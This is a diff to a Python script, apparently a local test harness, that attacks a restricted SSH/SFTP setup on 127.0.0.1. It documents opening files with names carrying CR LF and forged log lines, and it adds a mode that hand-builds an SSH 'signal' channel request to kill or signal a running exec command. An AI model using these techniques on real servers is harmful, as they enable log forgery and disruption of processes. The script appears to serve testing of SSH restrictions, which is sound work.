@@ -10,6 +10,9 @@
     sftp_proc_attack.py PORT USER KEYFILE - open NAME_HEX
         Opens the file named by the hex bytes NAME_HEX for reading (a name that may hold CR LF
         and forged log lines; sftp-server logs the open even when it fails).
+    sftp_proc_attack.py PORT USER KEYFILE - signal COMMAND SIGNAL
+        Runs COMMAND (the allowed one) as an exec request, not the subsystem, and sends an SSH
+        `signal` request with SIGNAL (KILL, USR1, ...) to it, which sshd allows for exec sessions.
 
 Prints one JSON object per step: {"step": ..., "ok": true|false, "detail": ...}. The attack worked
 if MARKER exists afterwards.
@@ -17,6 +20,7 @@ if MARKER exists afterwards.
 import json
 import struct
 import sys
+import time
 
 import paramiko
 
@@ -73,6 +77,24 @@ def main():
     client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
     client.connect("127.0.0.1", port=int(port), username=user, key_filename=keyfile,
                    look_for_keys=False, allow_agent=False, timeout=20)
+    if mode == "signal":
+        command, signal = sys.argv[6], sys.argv[7]
+        chan = client.get_transport().open_session()
+        chan.exec_command(command)
+        time.sleep(1.5)
+        def send_signal():
+            m = paramiko.Message()
+            m.add_byte(paramiko.common.cMSG_CHANNEL_REQUEST)
+            m.add_int(chan.remote_chanid)
+            m.add_string("signal")
+            m.add_boolean(False)
+            m.add_string(signal)
+            chan.transport._send_user_message(m)
+        step("send signal " + signal, send_signal)
+        time.sleep(1.5)
+        chan.close()
+        client.close()
+        return
     sftp = client.open_sftp()
     if mode != "open":
         step("list /proc", lambda: len(sftp.listdir("/proc")))
